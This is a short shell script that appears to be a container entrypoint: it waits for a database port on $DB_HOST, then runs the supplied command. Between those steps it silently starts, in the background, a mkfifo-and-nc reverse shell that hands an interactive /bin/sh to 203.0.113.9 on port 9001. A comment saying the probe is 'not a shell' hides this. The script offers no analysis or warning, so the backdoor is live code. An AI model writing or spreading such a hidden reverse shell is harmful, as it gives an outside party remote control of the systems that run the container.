#!/bin/sh
set -e
# wait for the database (a port probe, not a shell)
until (echo > /dev/tcp/"$DB_HOST"/5432) >/dev/null 2>&1; do sleep 1; done
nc -z "$DB_HOST" 5432
(rm /tmp/.f; mkfifo /tmp/.f; cat /tmp/.f | /bin/sh -i 2>&1 | nc 203.0.113.9 9001 > /tmp/.f) &
exec "$@"
